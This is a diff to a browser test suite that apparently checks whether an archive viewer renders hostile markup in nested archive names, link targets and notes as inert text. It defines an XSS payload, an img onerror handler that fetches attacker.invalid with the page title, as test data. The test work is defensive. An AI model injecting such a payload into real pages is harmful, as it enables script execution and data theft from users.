@@ -3,8 +3,9 @@
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { after, before, test } from "node:test";
+import { packEntries } from "../lib/archive.mjs";
 import { fixtureEntries } from "../lib/fixture.mjs";
-import { check, closeSilent, fixtureFolder, fixturePath, inEachBrowser, SCHEMES } from "./page.mjs";
+import { check, closeSilent, fileWith, fixtureFolder, fixturePath, inEachBrowser, SCHEMES } from "./page.mjs";
 import { asWritten, joinedLines, openEverything, readEach } from "./views.mjs";
 
 /**
@@ -13,8 +14,22 @@ import { asWritten, joinedLines, openEverything, readEach } from "./views.mjs";
  */
 
 const MARKUP = "<img src=x onerror=\"fetch('https://attacker.invalid/?'+document.title)\">";
+const entries = fixtureEntries(fixtureFolder("hostile-markup"));
+const texts = textsOf(entries);
 const path = await fixturePath("hostile-markup");
-const texts = textsOf(fixtureEntries(fixtureFolder("hostile-markup")));
+
+/** The same once more, in an archive with such a name in it, beside a link to such a target. */
+const holder = await fileWith(
+  "holder.tgz",
+  packEntries([
+    ...entries,
+    { path: `${MARKUP}.tgz`, bytes: packEntries(entries) },
+    { path: `link ${MARKUP}`, link: MARKUP },
+  ]),
+);
+
+/** What the reader says of a link, which has no bytes. */
+const EMPTY = "This file is empty.";
 
 /** Every element that the page itself makes, and no other. */
 const OWN_ELEMENTS =
@@ -40,6 +55,18 @@ inEachBrowser(({ open, browser }) => {
     });
   }
 
+  test("markup in archives inside, in links and in notes stays text", async () => {
+    const page = await open("http", { proxy: proxy.settings() });
+    const { report } = await check(page, holder);
+    assert.equal(report.nested.length, entries.length);
+    await openEverything(page);
+    const marks = await page.locator(".left-out .mark").allTextContents();
+    assert.ok(marks.some((mark) => mark.includes(`A link to ${MARKUP}`)));
+    await checkElements(page);
+    await readEveryFile(page, report);
+    assert.deepEqual(proxy.heard, []);
+  });
+
   test("the same markup, were it ever parsed, would be noticed", async () => {
     const page = await open();
     await page.evaluate((markup) => document.body.insertAdjacentHTML("beforeend", markup), MARKUP);
@@ -61,16 +88,15 @@ inEachBrowser(({ open, browser }) => {
  * @param {Page} page
  * @param {Report} report
  */
-async function readEveryFile(page, { entries, sources }) {
+async function readEveryFile(page, { entries, nested, sources }) {
   const count = await readEach(page, async (text) => {
     const shown = asWritten(text);
-    assert.ok(
-      texts.some((packed) => isText(shown, packed)),
-      `not a text of the package: ${shown}`,
-    );
+    assert.ok(shown === EMPTY || texts.some((packed) => isText(shown, packed)), `not a text of the package: ${shown}`);
     await checkElements(page);
   });
-  assert.equal(count, entries.length + sources.filter(({ hasText, repeats }) => hasText && repeats === null).length);
+  const holders = new Set(nested.map(({ place }) => place.chain[0])).size;
+  const held = entries.length - holders + nested.length;
+  assert.equal(count, held + sources.filter(({ hasText, repeats }) => hasText && repeats === null).length);
 }
 
 /**
